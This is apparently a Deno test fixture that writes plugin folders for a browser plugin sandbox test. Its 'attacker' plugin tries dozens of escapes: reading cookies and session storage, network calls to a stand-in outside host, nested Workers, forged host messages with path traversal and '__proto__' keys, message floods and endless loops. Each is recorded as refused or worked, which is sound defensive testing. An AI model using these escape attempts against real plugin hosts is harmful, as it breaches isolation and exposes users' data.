// A stranger's plugin that tries to get out of the page's sandbox, as the files of a plugin folder. Each attempt says
// whether it was refused; what it must not reach is told to it by its caller.

import { join } from "node:path";

export interface Attempt {
  name: string;
  outcome: "refused" | "absent" | "worked";
  detail: string;
}

export interface AttackInput {
  /** Where the page came from. */
  server: string;
  /** `127.0.0.1:<port>`, where somebody counts. */
  elsewhere: string;
  /** The name of a BroadcastChannel that the page and another plugin listen on. */
  channel: string;
}

/** Puts plugins below `folder`: the attacker, an innocent one that listens for it, and one that runs a model. */
export async function writeStrangers(folder: string): Promise<void> {
  await writePlugin(folder, {
    id: "writer",
    capabilities: ["writer.complete"],
    code: writerCode,
    more: { engines: ["wllama"], permissions: { services: ["models"], models: ["*"] } },
  });
  await writePlugin(folder, {
    id: "attacker",
    capabilities: ["attacker.try", "attacker.flood", "attacker.close", "attacker.spin"],
    code: attackerCode,
  });
  await writePlugin(folder, {
    id: "innocent",
    capabilities: ["innocent.listen", "innocent.heard"],
    code: innocentCode,
  });
}

async function writePlugin(
  folder: string,
  { id, capabilities, code, more = {} }: {
    id: string;
    capabilities: string[];
    code: string;
    more?: object;
  },
): Promise<void> {
  await Deno.mkdir(join(folder, id));
  const manifest = {
    contract: "1",
    id,
    name: id,
    version: "1.0.0",
    browser: true,
    limits: { timeoutMs: 4000 },
    ...more,
    capabilities: capabilities.map((capability) => ({
      id: capability,
      title: capability,
      inputSchema: {},
      outputSchema: {},
    })),
  };
  await Deno.writeTextFile(join(folder, id, "plugin.json"), JSON.stringify(manifest));
  await Deno.writeTextFile(join(folder, id, "plugin.js"), code);
}

const innocentCode = `
  import { definePlugin } from "@bkg/plugin";
  const heard = [];
  export default definePlugin({
    capabilities: {
      "innocent.listen": ({ channel }) => {
        new BroadcastChannel(channel).onmessage = ({ data }) => heard.push(data);
        return self.origin;
      },
      "innocent.heard": () => heard,
    },
  });`;

const writerCode = `
  import { definePlugin } from "@bkg/plugin";
  export default definePlugin({
    capabilities: {
      "writer.complete": async ({ model, prompt, maxTokens, threads }, { ctx, principal, alive }) => {
        const progress = () => alive();
        const loaded = await ctx.engines.wllama.load(await ctx.models.open(model), { threads, progress });
        let text = "";
        const options = { principal, maxTokens, temperature: 0, progress };
        for await (const piece of loaded.complete(prompt, options)) text += piece.text;
        return { text, ...loaded.info() };
      },
    },
  });`;

/** The same attempts in a Worker of some page, for a test that they can work at all. */
export function attackFromPage(input: AttackInput): string {
  const text = `onmessage = async ({ data }) => postMessage(await (${attempts})(data))`;
  return `new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(text)}])));
    worker.onmessage = ({ data }) => resolve(data);
    worker.postMessage(${JSON.stringify(input)});
  })`;
}

/** Runs in the plugin's Worker, and once more in a Worker that the plugin starts: no name from outside. */
const attempts = String(async function attempt(
  { server, elsewhere, channel }: AttackInput,
): Promise<Attempt[]> {
  // deno-lint-ignore no-explicit-any
  const scope = globalThis as any;
  const web = `http://${elsewhere}`;
  const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
  /** Settles by the event that comes first. */
  // deno-lint-ignore no-explicit-any
  const opened = (target: any, good: string) =>
    new Promise((resolve, reject) => {
      target.addEventListener(good, () => resolve(`"${good}"`));
      target.addEventListener("error", (event: Event) => {
        event.preventDefault();
        reject(new Error("an error event"));
      });
      target.addEventListener("close", () => reject(new Error("a close event")));
    });
  const blob = (text: string) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
  const started = (url: string, options?: WorkerOptions) =>
    opened(new scope.Worker(url, options), "message");
  const need = (name: string) => {
    if (scope[name] === undefined) throw { absent: true };
    return scope[name];
  };
  const xhr = (url: string) => {
    const request = new (need("XMLHttpRequest"))();
    request.open("GET", url);
    request.send();
    return opened(request, "load");
  };
  const tries: Record<string, () => unknown> = {
    "private file storage": () => scope.navigator.storage.getDirectory(),
    "IndexedDB": () => {
      const request = need("indexedDB").open("attack");
      return opened(request, "success");
    },
    "IndexedDB databases": () => need("indexedDB").databases(),
    "caches": () => need("caches").open("attack"),
    "localStorage": () => need("localStorage").getItem("bkg.session"),
    "sessionStorage": () => need("sessionStorage").length,
    "cookies": () => need("document").cookie,
    "cookieStore": () => need("cookieStore").getAll(),
    "locks": () => scope.navigator.locks.query(),
    "fetch of the server": () => fetch(`${server}/healthz?attack`, { mode: "no-cors" }),
    "fetch of the page's own files": () => fetch(`${server}/assets/boot.js`, { mode: "no-cors" }),
    "fetch of elsewhere": () => fetch(`${web}/fetch`, { mode: "no-cors", keepalive: true }),
    "POST elsewhere": () => fetch(`${web}/post`, { mode: "no-cors", method: "POST", body: "x" }),
    "XHR of the server": () => xhr(`${server}/healthz?attack`),
    "XHR of elsewhere": () => xhr(`${web}/xhr`),
    "WebSocket of the server": () =>
      opened(new (need("WebSocket"))(`${server.replace("http", "ws")}/ws/plugins`, "bkg"), "open"),
    "WebSocket of elsewhere": () => opened(new (need("WebSocket"))(`ws://${elsewhere}/ws`), "open"),
    "WebSocketStream": () => new (need("WebSocketStream"))(`ws://${elsewhere}/wss`).opened,
    "EventSource": () => opened(new (need("EventSource"))(`${web}/events`), "open"),
    "WebTransport": () => new (need("WebTransport"))(`https://${elsewhere}/wt`).ready,
    "WebRTC": () => new (need("RTCPeerConnection"))().createOffer(),
    "sendBeacon": () => {
      if (scope.navigator.sendBeacon === undefined) throw { absent: true };
      if (!scope.navigator.sendBeacon(`${web}/beacon`)) throw new Error("it said no");
    },
    "importScripts of the server": () => need("importScripts")(`${server}/assets/boot.js?attack`),
    "importScripts of elsewhere": () => need("importScripts")(`${web}/script.js`),
    "import of the server": () => import(`${server}/assets/boot.js?attack`),
    "import of elsewhere": () => import(`${web}/module.js`),
    "import of data:": () => import("data:text/javascript,export default 1"),
    "a font": () => new (need("FontFace"))("x", `url(${web}/font)`).load(),
    "a Worker from the server": () => started(`${server}/assets/boot.js`),
    "a Worker from elsewhere": () => started(`${web}/worker.js`),
    "a Worker from data:": () => started("data:text/javascript,postMessage(1)"),
    "a Worker from a blob that imports": () =>
      started(blob(`importScripts("${web}/nested.js"); postMessage(1)`)),
    "a module Worker that imports": () =>
      started(blob(`import "${web}/nested-module.js"; postMessage(1)`), { type: "module" }),
    "SharedWorker": () => new (need("SharedWorker"))(blob("")),
    "ServiceWorker": () => {
      if (scope.navigator.serviceWorker === undefined) throw { absent: true };
      return scope.navigator.serviceWorker.register(`${server}/assets/boot.js`);
    },
    "WASM from elsewhere": () => WebAssembly.compileStreaming(fetch(`${web}/x.wasm`)),
    "eval": () => (0, scope.eval)("1 + 1"),
    "parent": () => need("parent").location.href,
    "top": () => need("top").location.href,
    "opener": () => need("opener").location.href,
    "document": () => need("document").body,
    "a new window": () => need("open")(`${web}/window`),
    "leaving for elsewhere": () => {
      scope.location.href = `${web}/navigate`;
      if (scope.location.href.startsWith("blob:")) throw new Error("it stays");
    },
    "notifications": async () => {
      if (scope.Notification?.requestPermission === undefined) throw { absent: true };
      if (await scope.Notification.requestPermission() !== "granted") throw new Error("denied");
    },
    "the address of the page": () => {
      const told = `${scope.location.href} ${scope.location.origin} ${scope.origin}`;
      if (!told.includes(new URL(server).host)) throw new Error(told.slice(0, 20));
      return told;
    },
  };
  const one = async ([name, run]: [string, () => unknown]): Promise<Attempt> => {
    try {
      const late = wait(1500).then(() => {
        throw new Error("nothing happened");
      });
      const value = await Promise.race([Promise.resolve().then(run), late]);
      return { name, outcome: "worked", detail: String(value).slice(0, 100) };
    } catch (error) {
      const absent = (error as { absent?: boolean } | undefined)?.absent === true;
      return { name, outcome: absent ? "absent" : "refused", detail: String(error).slice(0, 100) };
    }
  };
  // That this is sent harms nobody; that it is heard would.
  if (scope.BroadcastChannel) new scope.BroadcastChannel(channel).postMessage("attack");
  return await Promise.all(Object.entries(tries).map(one));
});

const attackerCode = `
  import { definePlugin } from "@bkg/plugin";
  const attempt = ${attempts};

  /** Calls the page the way the Worker's root does, past the plugin's own interface. */
  function forge(method, input, id) {
    return new Promise((resolve) => {
      const listener = ({ data }) => {
        if (data?.port !== "main" || data.message.id !== id) return;
        removeEventListener("message", listener);
        resolve(data.message);
      };
      addEventListener("message", listener);
      postMessage({ port: "main", message: { kind: "call", id, method, input, credit: 0 } });
    });
  }

  export default definePlugin({
    capabilities: {
      "attacker.try": async (input) => {
        const own = attempt(input);
        const text = "onmessage = async ({ data }) => postMessage(await (" + attempt + ")(data))";
        const nested = new Worker(URL.createObjectURL(new Blob([text])));
        nested.postMessage(input);
        const theirs = new Promise((resolve, reject) => {
          nested.onmessage = ({ data }) => resolve(data);
          nested.onerror = () => reject(new Error("the nested Worker failed"));
        });
        const forged = [];
        for (const [at, [method, request]] of [
          ["read", { handle: 1, offset: 0, length: 10 }],
          ["read", { handle: "__proto__", offset: 0, length: 10 }],
          ["asset", { name: "../../api/plugins" }],
          ["asset", { name: "__proto__" }],
          ["localStorage", {}],
        ].entries()) {
          const { kind } = await forge(method, request, 1_000_000 + at);
          forged.push({
            name: "a forged " + method + " " + JSON.stringify(request),
            outcome: kind === "error" ? "refused" : "worked",
            detail: kind,
          });
        }
        return { origin: self.origin, own: await own, nested: await theirs, forged };
      },
      "attacker.flood": () => {
        const value = { level: "info", message: "x".repeat(1000) };
        for (let at = 0; at < 200_000; at++) {
          postMessage({ port: "host", message: { kind: "notify", topic: "log", value } });
        }
        return "sent";
      },
      "attacker.close": () => new Promise(() => self.close()),
      "attacker.spin": () => { while (true); },
    },
  });`;
